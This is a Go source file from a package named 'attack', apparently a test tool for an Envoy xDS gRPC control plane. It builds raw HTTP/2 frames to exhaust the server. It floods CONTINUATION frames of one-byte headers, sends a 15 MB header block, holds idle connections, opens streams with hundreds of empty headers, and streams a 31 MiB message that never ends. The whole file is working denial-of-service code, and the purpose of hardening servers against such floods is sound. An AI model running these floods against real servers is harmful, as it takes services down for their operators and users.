package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const path = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"

// frames is an HTTP/2 connection on which the attack writes the frames itself.
type frames struct {
	conn net.Conn
	*http2.Framer
}

func open(ctx context.Context, on Target) (*frames, error) {
	conn, err := dial(ctx, on.Address, on.TLS)
	if err != nil {
		return nil, err
	}
	f := &frames{conn, http2.NewFramer(conn, conn)}
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = f.WriteSettings()
	}
	if err != nil {
		_ = conn.Close()
		return nil, err
	}
	return f, nil
}

// framed opens a connection, sends frames, and waits until the other side has ended the connection.
func framed(ctx context.Context, on Target, send func(*frames) error) error {
	f, err := open(ctx, on)
	if err != nil {
		return err
	}
	_ = send(f) // until says what comes of it
	return until(f.conn)
}

// block is a header block of a call, with more headers.
func block(more ...hpack.HeaderField) []byte {
	var to bytes.Buffer
	e := hpack.NewEncoder(&to)
	for _, h := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: path},
		{Name: ":authority", Value: "limpet"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}, more...) {
		_ = e.WriteField(h)
	}
	return to.Bytes()
}

// maxFrame is how large a frame is, at most.
const maxFrame = 16 << 10

// endlessHeaders sends header fields of a byte each, which the other side decodes into two strings, and never ends
// them.
func endlessHeaders(ctx context.Context, on Target) error {
	return framed(ctx, on, func(f *frames) error {
		indexed := bytes.Repeat([]byte{0x8f}, maxFrame-1)
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block()})
		for i := 0; i < 22 && err == nil; i++ { // 360 kB
			err = f.WriteContinuation(1, false, indexed)
		}
		return err
	})
}

var largeBlock = sync.OnceValue(func() []byte {
	return block(hpack.HeaderField{Name: "large-bin", Value: strings.Repeat("A", 15<<20)})
})

// largeHeaders makes a call with 15 MB of headers, and says nothing in it.
func largeHeaders(ctx context.Context, on Target) error {
	return framed(ctx, on, func(f *frames) error {
		all := largeBlock()
		first := all[:maxFrame-1]
		all = all[len(first):]
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first})
		for len(all) > 0 && err == nil {
			part := all[:min(len(all), maxFrame-1)]
			all = all[len(part):]
			err = f.WriteContinuation(1, len(all) == 0, part)
		}
		return err
	})
}

// silence connects, and says nothing.
func silence(ctx context.Context, on Target) error {
	return framed(ctx, on, func(*frames) error { return nil })
}

// withoutMessage makes calls with as many headers as there may be, and says nothing in them.
func withoutMessage(ctx context.Context, on Target) error {
	return framed(ctx, on, func(f *frames) (err error) {
		var more []hpack.HeaderField
		for i := range 300 {
			more = append(more, hpack.HeaderField{Name: "x-" + string(rune('a'+i%26)) + string(rune('a'+i/26)), Value: ""})
		}
		for stream := uint32(1); stream < 16 && err == nil; stream += 2 {
			err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block(more...), EndHeaders: true})
		}
		return err
	})
}

// endlessMessage begins a message of 31 MiB and sends as much of it as the other side takes, but never its end.
func endlessMessage(ctx context.Context, on Target) error {
	return framed(ctx, on, sendWithoutEnd)
}

func sendWithoutEnd(f *frames) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block(), EndHeaders: true}); err != nil {
		return err
	}
	const size = 31 << 20
	left := size - 1
	next := make([]byte, 5)
	binary.BigEndian.PutUint32(next[1:], size)
	window := 65535
	for {
		for len(next) > 0 && window > 0 {
			part := next[:min(len(next), window)]
			if err := f.WriteData(1, false, part); err != nil {
				return err
			}
			window -= len(part)
			if next = next[len(part):]; len(next) == 0 {
				next = make([]byte, min(left, maxFrame-1))
				left -= len(next)
			}
		}
		frame, err := f.ReadFrame()
		if err != nil {
			return err
		}
		if update, is := frame.(*http2.WindowUpdateFrame); is && update.StreamID == 1 {
			window += int(update.Increment)
		}
	}
}
